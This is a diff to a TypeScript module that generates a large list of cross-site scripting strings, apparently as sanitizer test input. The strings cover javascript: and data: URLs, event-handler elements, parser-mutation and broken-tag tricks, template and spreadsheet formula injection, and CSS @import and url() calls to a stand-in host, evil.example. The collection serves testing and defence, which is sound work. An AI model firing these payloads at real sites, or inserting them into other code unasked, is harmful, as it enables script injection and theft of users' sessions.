@@ -1,14 +1,17 @@
 /**
- * Some hundreds of ways to smuggle script, style, frames and foreign addresses into text: by events, schemes, encodings,
- * broken tags, foreign content and what a parser changes (mutation). Each would run `run` where it worked.
+ * About a thousand different texts that smuggle script, style, frames and foreign addresses into a page: by events, schemes,
+ * encodings, broken tags, templates and what a parser changes (mutation). Each calls `run` where it works.
  *
  * @param run one statement, without quotes
  */
 export function xssVectors(run = 'alert(1)'): readonly string[] {
-  return [
-    ...schemes(run).flatMap(inAddresses),
+  const all = [
+    ...schemes(run).flatMap(inLinks),
+    ...addresses(run).flatMap(inAddresses),
     ...events.flatMap((event) => inEvents(event, run)),
+    ...handlers.flatMap((handler) => inCarriers(handler, run)),
     ...elements(run),
+    ...templates(run),
     ...rooms.flatMap(([open, close]) => [
       `${open}<img src=x onerror=${run}>${close}`,
       `${open}<svg onload=${run}>${close}`,
@@ -18,6 +21,7 @@ export function xssVectors(run = 'alert(1)'): readonly string[] {
     ...broken(run),
     ...styles(run),
   ];
+  return [...new Set(all)];
 }
 
 const entities = (text: string, as: (code: number) => string) =>
@@ -60,7 +64,7 @@ function schemes(run: string): string[] {
     `vbscript:msgbox(1)`,
     `livescript:${run}`,
     `data:text/html,<script>${run}</script>`,
-    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+    `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
     `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
     `DATA:text/html;charset=utf-8,<script>${run}</script>`,
     `blob:https://evil.example/1`,
@@ -86,31 +90,55 @@ function schemes(run: string): string[] {
   ];
 }
 
-const inAddresses = (address: string) => [
+const inLinks = (address: string) => [
   `<a href="${address}">눌러요</a>`,
   `<a href='${address}'>눌러요</a>`,
   `<img src="${address}">`,
 ];
 
+/** One address of each kind, for every place that takes an address. */
+const addresses = (run: string) => [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  ` javascript:${run}`,
+  `java\tscript:${run}`,
+  `java&#10;script:${run}`,
+  `java&Tab;script:${run}`,
+  `&#106;avascript:${run}`,
+  `&#x6A;avascript&colon;${run}`,
+  `javascript&#58;${run}`,
+  `\u0001javascript:${run}`,
+  `vbscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
+  `data:image/svg+xml,<svg onload=${run}>`,
+  `//evil.example/x`,
+  `https:evil.example`,
+  `\\\\evil.example/x`,
+  `/\\evil.example/x`,
+];
+
+const inAddresses = (address: string) => [
+  ...inLinks(address),
+  `<a href='${address}' target=_blank>x</a>`,
+  `<img srcset="${address} 1x">`,
+  `<iframe src="${address}"></iframe>`,
+  `<form action="${address}"><button>x</button></form>`,
+  `<object data="${address}"></object>`,
+  `<embed src="${address}">`,
+  `<link rel=stylesheet href="${address}">`,
+  `<base href="${address}">`,
+  `<meta http-equiv=refresh content="0;url=${address}">`,
+  `<svg><use href="${address}"/></svg>`,
+  `<p style="background:url('${address}')">x</p>`,
+  `[x](${address})`,
+  address,
+];
+
 const events = [
-  'onerror',
-  'onload',
-  'onclick',
-  'onmouseover',
-  'onfocus',
-  'onblur',
-  'ontoggle',
-  'onbegin',
-  'onanimationstart',
-  'ontransitionend',
-  'onpointerenter',
-  'onwheel',
-  'onbeforetoggle',
-  'onscrollsnapchange',
-  'onscrollend',
-  'oncontentvisibilityautostatechange',
-  'ONERROR',
-  'oNeRrOr',
+  ...'onerror onload onclick onmouseover onfocus onblur ontoggle onbegin onanimationstart'.split(' '),
+  ...'ontransitionend onpointerenter onwheel onbeforetoggle onscrollsnapchange onscrollend'.split(' '),
+  ...'oncontentvisibilityautostatechange ONERROR oNeRrOr'.split(' '),
 ];
 
 const inEvents = (event: string, run: string) => [
@@ -124,6 +152,27 @@ const inEvents = (event: string, run: string) => [
   `<img """><p ${event}=${run}>">`,
   `<img src=x ${event}=${entities(run, (code) => `&#${code};`)}>`,
   `<svg ${event}=${run}>`,
+];
+
+const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onanimationstart', 'onbegin'];
+
+/** Elements that set one of the handlers off by themselves, or that parsers treat in a way of their own. */
+const inCarriers = (handler: string, run: string) => [
+  `<img src="x" ${handler}="${run}" />`,
+  `<svg><animate attributeName=x dur=1s ${handler}=${run}></svg>`,
+  `<details open ${handler}=${run}>x</details>`,
+  `<input autofocus ${handler}=${run}>`,
+  `<video ${handler}=${run}><source src=x ${handler}=${run}></video>`,
+  `<body ${handler}=${run}>`,
+  `<p style="animation:x" ${handler}='${run}'>x</p>`,
+  `<a href="/main" ${handler}="${run}" autofocus tabindex=1>x</a>`,
+  `<table background=x ${handler}=${run}><td ${handler}=${run}>x</table>`,
+  `<x contenteditable ${handler}=${run}>x</x>`,
+  `<iMg SrC=x ${handler.toUpperCase()}=${run}>`,
+  `<img src=x ${handler}=&#${run.codePointAt(0)};${run.slice(1)}>`,
+  `"><img src=x ${handler}=${run}>`,
+  `'-alert(1)-'<img src=x ${handler}=${run}>`,
+  `<<img src=x ${handler}=${run}>>`,
 ];
 
 const elements = (run: string) => [
@@ -216,32 +265,32 @@ const elements = (run: string) => [
   `<table background="javascript:${run}"><tr><td background="javascript:${run}">글</td></tr></table>`,
   `<td colspan="1 onclick=${run}">글</td>`,
   `<ol start="1&quot; onclick=&quot;${run}"><li>글</li></ol>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `--><script>${run}</script><!--`,
+  `<!--><script>${run}</script>-->`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `<xmp><img src=x onerror=${run}></xmp>`,
+  `<plaintext><img src=x onerror=${run}>`,
+  `<a id=location href="javascript:${run}">x</a>`,
+  `<img name=body><img name=getElementById><form id=documentElement>`,
+  `<input name=attributes><input name=childNodes>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `안녕<b onmouseover=${run}>하세요</b> \ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 \uac01`,
 ];
 
 /** Where what follows is read by other rules. */
 const rooms: readonly (readonly [string, string])[] = [
-  ['<style>', '</style>'],
-  ['<title>', '</title>'],
-  ['<textarea>', '</textarea>'],
-  ['<noscript>', '</noscript>'],
-  ['<noembed>', '</noembed>'],
-  ['<noframes>', '</noframes>'],
-  ['<iframe>', '</iframe>'],
-  ['<xmp>', '</xmp>'],
+  ...'style title textarea noscript noembed noframes iframe xmp listing select table svg math template code'
+    .split(' ')
+    .map((tag) => [`<${tag}>`, `</${tag}>`] as const),
   ['<plaintext>', ''],
-  ['<listing>', '</listing>'],
-  ['<select>', '</select>'],
-  ['<table>', '</table>'],
-  ['<svg>', '</svg>'],
-  ['<math>', '</math>'],
-  ['<template>', '</template>'],
   ['<!--', '-->'],
   ['<p title="', '">'],
   ["<p title='", "'>"],
   ['<p title=`', '`>'],
   ['<a href="/main', '">눌러요</a>'],
   ['<img alt="', '">'],
-  ['<code>', '</code>'],
 ];
 
 /** What changes its meaning when it is read a second time. */
@@ -278,6 +327,13 @@ const mutations = (run: string) => [
   `<a href="/main"><a href="javascript:${run}">눌러요</a></a>`,
   `<ul><li><ul></li><script>${run}</script></ul>`,
   `<p><table><tr><p><script>${run}</script></table>`,
+  `<math><mi><style><img src=x onerror=${run}></style></mi></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<template><img src=x onerror=${run}></template>`,
+  `<select><template><img src=x onerror=${run}></template></select>`,
+  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
+  `\u202e<img src=x onerror=${run}>\u202c`,
 ];
 
 /** Tags that are none, or not quite. */
@@ -308,6 +364,8 @@ const broken = (run: string) => [
   `<ımg src=x onerror=${run}>`,
   `<sc\u0130ript>${run}</script>`,
   `<script\u2028>${run}</script>`,
+  `<\u0131mg src=x onerror=${run}>`,
+  `<img src=x onerror\u00a0=${run}>`,
 ];
 
 const styles = (run: string) => [
@@ -324,4 +382,19 @@ const styles = (run: string) => [
   `<style>@import '//evil.example/x.css';</style>`,
   `<style>*{background:url(javascript:${run})}</style>`,
   `<font color="&#34; onclick=${run}">글</font>`,
+  `<style>@import'//evil.example/x.css';</style>`,
+  `<style>*{background:url(//evil.example/x)}</style>`,
+  `<p style="width:expression(${run})">x</p>`,
+  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
+];
+
+/** What is a program where a template, a script or a spreadsheet takes the text up. */
+const templates = (run: string) => [
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `<%= ${run} %>`,
+  `';${run}//`,
+  `";${run}//`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
+  `=HYPERLINK("javascript:${run}")`,
 ];
